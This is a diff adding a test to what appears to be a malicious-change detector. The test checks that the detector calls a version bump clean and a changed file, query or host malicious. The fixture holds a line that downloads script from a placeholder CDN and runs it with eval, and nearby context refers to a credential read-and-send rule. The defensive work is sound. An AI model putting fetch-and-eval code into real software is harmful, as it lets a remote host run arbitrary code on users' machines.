@@ -33,6 +33,21 @@ describe("what the base had already", () => {
     expect(left.findings).toEqual([]);
   });
 
+  it("is not the change's when only the version of what is fetched grows", async () => {
+    const fetching = (url: string) => ({
+      "tools/get.js": `fetch("${url}").then((r) => r.text()).then((code) => eval(code));\n`,
+    });
+    const base = fetching("https://cdn.example.invalid/tool/1.9.2/run-1.9.2.js?from=1.0");
+    const verdicts = async (url: string) => (await reviewChange(base, fetching(url))).verdict;
+    const at = "https://cdn.example.invalid";
+    expect(await verdicts(`${at}/tool/1.10.0-rc.1/run-1.10.0.js?from=1.0`)).toBe("clean");
+    expect(await verdicts(`${at}/tool/1.10.0/other-1.10.0.js?from=1.0`)).toBe("malicious");
+    expect(await verdicts(`${at}/tool/1.9.2/run-1.9.2.js?from=2.0`)).toBe("malicious");
+    expect(await verdicts("https://cdn2.example.invalid/tool/1.9.2/run-1.9.2.js?from=1.0")).toBe(
+      "malicious",
+    );
+  });
+
   it("counts again when there is more of it than before", async () => {
     const review = await reviewChange({ "a.js": EVIL }, { "a.js": `${EVIL}\n{${EVIL}}` });
     expect(rulesIn(review)).toContain("credentials/read-and-send");
